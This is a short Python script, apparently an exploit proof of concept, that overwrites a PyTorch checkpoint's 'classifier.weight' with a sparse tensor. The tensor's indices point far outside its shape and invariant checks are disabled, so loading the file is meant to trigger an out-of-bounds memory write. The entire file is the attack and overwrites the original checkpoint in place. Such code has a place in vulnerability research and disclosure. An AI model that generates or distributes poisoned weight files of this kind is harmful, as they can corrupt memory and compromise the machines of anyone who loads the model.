"""Store a weight as a sparse tensor that writes where it should not: make.py PATH."""

import sys

import torch

good = torch.load(sys.argv[1], map_location="cpu", weights_only=True)
indices = torch.tensor([[0, 2**40], [0, 2**40]])
evil = torch.sparse_coo_tensor(
    indices, torch.ones(2), good["classifier.weight"].shape, check_invariants=False
)
torch.save({**good, "classifier.weight": evil}, sys.argv[1])
